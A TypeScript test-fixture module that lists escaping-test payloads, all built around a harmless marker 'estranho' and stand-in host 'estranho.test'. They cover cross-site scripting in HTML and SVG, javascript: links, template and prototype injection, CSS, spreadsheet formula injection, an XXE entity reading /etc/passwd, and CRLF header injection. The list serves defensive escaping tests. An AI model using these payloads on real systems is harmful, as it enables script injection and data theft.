/**
 * Stands in every payload, as the name of an element, attribute, function or host: whatever carries it after parsing was
 * made by stored text. No template of ours holds it.
 */
export const FOREIGN = 'estranho';

/** Texts that become code, markup, a formula, a link or a line where a writer forgets to escape them. */
export const PAYLOADS: readonly string[] = [
  // HTML: elements, attributes, and what ends them.
  '<script>estranho()</script>',
  '</title><script>estranho()</script>',
  '</textarea><estranho onclick=estranho()>',
  '</style><script src=//estranho.test></script>',
  '<img src=x onerror=estranho()>',
  '<svg onload=estranho()>',
  '<svg><script>estranho()</script></svg>',
  '<svg><animate onbegin=estranho() attributeName=x>',
  '<math><mtext><estranho></mtext></math>',
  '<math href="javascript:estranho()">x</math>',
  '<iframe srcdoc="<script>estranho()</script>">',
  '<object data="data:text/html,estranho"></object>',
  '<base href="//estranho.test/">',
  '<meta http-equiv=refresh content="0;url=//estranho.test">',
  '<link rel=stylesheet href=//estranho.test>',
  '<form action=//estranho.test><input name=estranho>',
  '<details open ontoggle=estranho()>',
  '<a href="javascript:estranho()">x</a>',
  '<template><estranho></template>',
  '<noscript><p title="</noscript><estranho>">',
  '" autofocus onfocus="estranho()" estranho="',
  "' onmouseover='estranho()' estranho='",
  '"><estranho>',
  "'><estranho>",
  '` onload=estranho() estranho=`',
  'x estranho=1 onclick=estranho()',
  '&lt;estranho&gt;&#60;script&#62;estranho()',
  '&quot; onfocus=&quot;estranho()',
  '<!--<estranho>-->',
  '--><estranho><!--',
  '<![CDATA[<estranho>]]>',
  ']]><estranho/>',
  // Links.
  'javascript:estranho()',
  ' JaVaScRiPt:estranho()',
  'javascript&colon;estranho()',
  'data:text/html,<estranho>',
  'vbscript:estranho()',
  '//estranho.test/x',
  '[x](javascript:estranho())',
  '![x](https://estranho.test/x.png)',
  // State and structured data inside a document.
  '</script><estranho>',
  '</SCRIPT ><script>estranho()</script>',
  '<!--<script>estranho',
  '"},"estranho":{"x":"',
  '\\"});estranho();//',
  'a\u2028estranho()\u2029//',
  // Templates and prototypes.
  '{{estranho()}}',
  '${estranho()}<%= estranho %>#{estranho}',
  '{{constructor.constructor("estranho()")()}}',
  // Style.
  'red;background:url(//estranho.test)',
  '}*{background:url(//estranho.test)}estranho{',
  // Spreadsheets.
  '=HYPERLINK("//estranho.test";"x")',
  '+estranho|x!A1',
  '-2+3+estranho',
  '@SUM(estranho)',
  '\t=estranho()',
  // XML.
  '<!DOCTYPE x [<!ENTITY estranho SYSTEM "file:///etc/passwd">]>&estranho;',
  '<?xml version="1.0"?><?estranho x?>',
  // PDF, and lines of a header or an e-mail.
  ') Tj ET /estranho (\\) \\\\( << >>',
  'a\r\nX-Estranho: 1\r\n\r\n<estranho>',
];

/** For fields that take nothing but an address, of a page or of a person. */
export const ADDRESS_PAYLOADS: readonly string[] = [
  'https://estranho.test/"><estranho>',
  "https://estranho.test/?'onclick='estranho()",
  'https://estranho.test/</script><estranho>',
  '/media/"onerror="estranho()',
  '"<estranho>"@estranho.test',
  'estranho(a)+b=c@estranho.test',
  "a'onfocus='estranho@estranho.test",
];
